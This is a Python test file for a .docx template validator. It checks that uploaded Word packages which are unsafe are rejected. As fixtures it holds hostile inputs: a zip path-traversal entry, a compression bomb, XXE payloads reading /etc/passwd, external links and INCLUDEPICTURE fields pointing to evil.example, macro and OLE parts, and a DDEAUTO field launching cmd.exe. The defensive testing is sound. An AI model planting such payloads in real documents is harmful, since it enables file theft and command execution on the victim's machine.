"""A Word file from outside is opened only when nothing in it can do harm."""

import io
import zipfile
from collections.abc import Callable

import pytest
from template_samples import TABLE, template_of, with_part

from generator.sources.word_package import MAX_PACKAGE_BYTES, Package, open_package

RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/></Relationships>'
)
EXTERNAL = ' TargetMode="External"'


def opened(content: bytes) -> list[tuple[str, str]]:
    """The codes and messages of what is wrong."""
    found = open_package(content, "模板.docx")
    return [] if isinstance(found, Package) else [(p.code, p.message) for p in found]


def packed(**parts: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w/>",
            **parts,
        }.items():
            package.writestr(name, content)
    return target.getvalue()


def test_a_template_of_ours_opens() -> None:
    assert opened(template_of(TABLE)) == []


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (b"", "不是 .docx"),
        ("姓名,电话".encode(), "不是 .docx"),
        (b"\xd0\xcf\x11\xe0" + bytes(100), "密码"),
        (b"PK\x03\x04" + bytes(40), "残缺"),
        (b"PK" + bytes(MAX_PACKAGE_BYTES), "超过上限"),
        (packed(**{"word/media/a.bin": bytes(50_000_000), "word/media/b.bin": bytes(20_000_000)}), "太大"),
        (packed(**{"word/styles.xml": b"<a>" + b" " * 8_000_000 + b"</a>"}), "压得太紧"),
        (packed(**{f"word/part{i}.xml": b"<a/>" for i in range(500)}), "太大"),
        (packed(**{"../evil.xml": b"<a/>"}), "文件名"),
        (packed(**{"word/Document.xml": b"<a/>"}), "文件名"),
        (packed(**{"word/styles.xml": b"<a><b></a>"}), "残缺"),
        (packed(**{"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), "DTD"),
        (packed(**{"word/styles.xml": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}), "DTD"),
        (packed(**{"word/styles.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}), "DTD"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_a_file_that_is_no_sound_word_file_is_told(content: bytes, word: str) -> None:
    (found,) = opened(content)

    assert found[0] == "TPL-001"
    assert word in found[1]


def test_damaged_and_locked_content_is_told() -> None:
    content = bytearray(template_of(TABLE))
    content[content.index(b"word/document.xml") + 60] ^= 0xFF
    locked = template_of(TABLE).replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01")

    assert [code for code, _ in opened(bytes(content))] == ["TPL-001"]
    assert locked != template_of(TABLE)
    assert [code for code, _ in opened(locked)] == ["TPL-001"]


def test_a_package_without_a_body_is_told() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("a.txt", "文")

    assert [code for code, _ in opened(target.getvalue())] == ["TPL-001"]


def related(kind: str, target: str, mode: str = EXTERNAL) -> Callable[[bytes], bytes]:
    rels = RELATION.format(kind, target, mode)
    return lambda content: with_part(content, "word/_rels/settings.xml.rels", lambda _: rels)


def with_field(instruction: str) -> Callable[[bytes], bytes]:
    cut = instruction[:3], instruction[3:]
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in cut)
    return lambda content: with_part(
        content, "word/document.xml", lambda xml: xml.replace("</w:p>", f"{runs}</w:p>", 1)
    )


@pytest.mark.parametrize(
    ("change", "word"),
    [
        (related("attachedTemplate", "http://evil.example/a.dotm"), "指向文件之外"),
        (related("image", "http://evil.example/a.png"), "指向文件之外"),
        (related("oleObject", "embeddings/oleObject1.bin", ""), "嵌入的对象"),
        (related("aFChunk", "chunk.html", ""), "嵌入的对象"),
        (related("frame", "file:///etc/passwd"), "指向文件之外"),
        (lambda content: with_part(content, "word/vbaProject.bin", lambda _: "x"), "宏"),
        (lambda content: with_part(content, "word/embeddings/oleObject1.bin", lambda _: "x"), "嵌入的对象"),
        (with_field(" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; "), "INCLUDEPICTURE"),
        (with_field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "), "DDEAUTO"),
    ],
)
def test_what_would_run_or_fetch_something_is_refused(change: Callable[[bytes], bytes], word: str) -> None:
    found = opened(change(template_of(TABLE)))

    assert [code for code, _ in found] == ["TPL-002"]
    assert word in found[0][1]


def test_a_link_to_read_and_a_page_number_are_let_through() -> None:
    content = with_field(" PAGE ")(related("hyperlink", "https://www.example.gov.cn/")(template_of(TABLE)))

    assert opened(content) == []
